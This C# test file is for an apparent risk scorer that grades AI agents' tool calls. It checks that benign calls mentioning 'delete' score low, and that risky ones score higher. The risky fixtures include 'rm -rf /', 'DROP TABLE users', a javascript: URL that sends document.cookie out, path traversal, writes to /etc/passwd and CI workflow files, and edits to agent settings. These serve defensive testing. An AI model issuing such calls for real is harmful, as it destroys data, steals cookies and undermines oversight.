namespace Attesta.Tests.Risk;

public sealed class ReadingFirstScorerTests
{
    [Theory]
    [InlineData("""final_answer {"answer":"I would delete the key"}""")]
    [InlineData("""summarize {"text":"drop the token"}""")]
    [InlineData("""think {"thought":"I should delete the file"}""")]
    [InlineData("""ask_user {"question":"Shall I delete the password?"}""")]
    [InlineData("""TodoWrite {"todos":[{"content":"delete old key","status":"pending"}]}""")]
    [InlineData("""git_commit {"message":"delete x"}""")]
    [InlineData("""Grep {"pattern":"DROP TABLE"}""")]
    [InlineData("""read_file {"path":"src/delete.py"}""")]
    [InlineData("""search_code {"query":"delete user"}""")]
    [InlineData("""web_search {"query":"drop table vs truncate"}""")]
    [InlineData("""get_delete_permissions {"user":"bob"}""")]
    [InlineData("""http_request {"method":"GET","url":"https://api.example.com/x"}""")]
    [InlineData("""browser_navigate {"url":"https://example.com"}""")]
    [InlineData("""str_replace_editor {"command":"view","path":"src/a.py"}""")]
    [InlineData("""str_replace_editor {"command":"str_replace","path":"src/a.py","old_str":"the key","new_str":"delete"}""")]
    [InlineData("""str_replace_editor {"command":"undo_edit","path":"src/a.py"}""")]
    [InlineData("""Edit {"file_path":"src/a.py","old_string":"delete key","new_string":"drop token"}""")]
    [InlineData("""Write {"file_path":"/home/ann/project/src/a.py","content":"delete token"}""")]
    [InlineData("set_volume {\"level\":10}")]
    [InlineData("mute_microphone")]
    [InlineData("turn_on_tv")]
    public void Words_in_what_tools_read_say_and_write_ask_nobody(string call) => Calls.Of(call).Level.ShouldBe(RiskLevel.Low, call);

    [Theory]
    [InlineData("""write_file {"path":".github/workflows/x.yml","content":"x"}""")]
    [InlineData("""write_file {"path":"../../elsewhere/x.py","content":"x"}""")]
    [InlineData("""Write {"file_path":".vscode/tasks.json","content":"x"}""")]
    [InlineData("""Edit {"file_path":"attesta.yaml","old_string":"x","new_string":"y"}""")]
    [InlineData("""Edit {"file_path":"~/.claude/settings.json","old_string":"x","new_string":"y"}""")]
    [InlineData("""write_file {"path":"/etc/passwd","content":"x"}""")]
    [InlineData("""write_file {"path":"a.md","repo":"x","content":"x"}""")]
    [InlineData("""http_request {"url":"https://example.com/?key=abc","body":"x"}""")]
    [InlineData("""browser_navigate {"url":"javascript:fetch('//x?'+document.cookie)"}""")]
    [InlineData("""think {"thought":"x","command":"rm -rf /"}""")]
    [InlineData("""query_database {"query":"DROP TABLE users"}""")]
    [InlineData("""git_commit {"message":"x","a":"delete the password"}""")]
    public void What_is_more_than_data_is_still_asked_about(string call) => Calls.Of(call).Score.ShouldBeGreaterThanOrEqualTo(0.3, call);
}
